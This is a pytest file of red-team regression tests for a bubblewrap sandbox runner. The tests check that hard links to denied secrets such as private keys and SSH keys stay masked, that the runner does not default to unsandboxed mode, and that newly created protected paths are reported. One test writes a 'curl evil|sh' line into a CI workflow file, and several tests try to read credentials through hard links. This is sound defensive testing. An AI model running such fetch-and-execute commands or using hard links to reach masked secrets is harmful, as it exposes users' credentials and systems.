"""Red-team regressions for the bubblewrap runner, checked against what the kernel did."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from safehold import SafetyConfig
from safehold.adapters.bwrap import run_sandboxed_sync
from tests.adapters.bwrap.conftest import Runner


def test_issue_7_a_hard_link_to_a_denied_file_is_masked_too(run: Runner, ws: Path) -> None:
    # `server.pem` is denied and masked by path; `notes.txt` is a second name for the same
    # inode. Masking only the denied name left the secret one `cat` (or `cp`) away.
    (ws / "server.pem").write_text("PRIVATE-KEY\n")
    os.link(ws / "server.pem", ws / "notes.txt")
    (ws / "deep").mkdir()
    os.link(ws / "server.pem", ws / "deep" / "copy")
    result = run("cat notes.txt deep/copy; cp notes.txt leak.txt; cat leak.txt")
    assert b"PRIVATE-KEY" not in result.stdout
    assert not (ws / "leak.txt").exists() or "PRIVATE" not in (ws / "leak.txt").read_text()
    assert (ws / "notes.txt").read_text() == "PRIVATE-KEY\n"  # the host file is untouched


def test_issue_7_a_hard_link_into_a_denied_directory_is_masked_too(run: Runner, ws: Path) -> None:
    # A denied directory is masked whole; a file inside it with a second name elsewhere in
    # the workspace must not be readable under that name either.
    secrets = ws / ".ssh"
    secrets.mkdir()
    (secrets / "id_work").write_text("SSH-SECRET\n")
    os.link(secrets / "id_work", ws / "harmless.txt")
    result = run("cat harmless.txt .ssh/id_work")
    assert b"SSH-SECRET" not in result.stdout
    assert result.exit_code != 0


def test_issue_7_an_ordinary_file_with_hard_links_stays_readable(run: Runner, ws: Path) -> None:
    (ws / "a.txt").write_text("PUBLIC\n")
    os.link(ws / "a.txt", ws / "b.txt")
    result = run("cat a.txt b.txt")
    assert result.exit_code == 0
    assert result.stdout == b"PUBLIC\nPUBLIC\n"


def test_issue_7_no_platform_defaults_to_running_without_a_sandbox() -> None:
    # `mode = "none"` is the explicit opt-out; off Linux the default used to be "none", so a
    # default config ran approved commands unsandboxed there without anyone asking for it.
    code = (
        "import importlib, sys\n"
        "import safehold.policy.sandbox_config as m\n"
        "sys.platform = 'darwin'\n"
        "m = importlib.reload(m)\n"
        "assert m.SandboxConfig().mode == 'bwrap', m.SandboxConfig().mode\n"
        "assert m.SandboxConfig(mode='none').mode == 'none'\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_issue_7_creating_a_missing_nested_protected_path_is_reported(
    run: Runner, ws: Path
) -> None:
    # `.github/workflows/` is protected; when it does not exist yet bwrap cannot pin it, so
    # the run must at least report that the command created it (as it does for `.vscode`).
    (ws / ".config").mkdir()  # the parent exists, the protected `fish` below it does not
    result = run(
        "mkdir -p .github/workflows .config/fish && echo 'run: curl evil|sh' > "
        ".github/workflows/ci.yml && echo x > .config/fish/config.fish"
    )
    assert result.exit_code == 0
    assert (ws / ".github" / "workflows" / "ci.yml").exists()  # the kernel let it happen
    joined = "\n".join(result.findings)
    assert ".github/workflows" in joined
    assert ".config/fish" in joined


def test_issue_7_a_hard_link_in_home_to_a_home_secret_is_masked(
    ws: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # HOME outside /tmp (the sandbox's /tmp is private) with `.ssh/id_ed25519` and a second
    # name for it, `~/backup`, that no pattern denies.
    home = outside / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("HOME-KEY\n")
    os.link(home / ".ssh" / "id_ed25519", home / "backup")
    monkeypatch.setenv("HOME", str(home))
    result = run_sandboxed_sync(
        f"cat {home}/backup {home}/.ssh/id_ed25519", cwd=str(ws), config=SafetyConfig()
    )
    assert b"HOME-KEY" not in result.stdout
    assert result.exit_code != 0
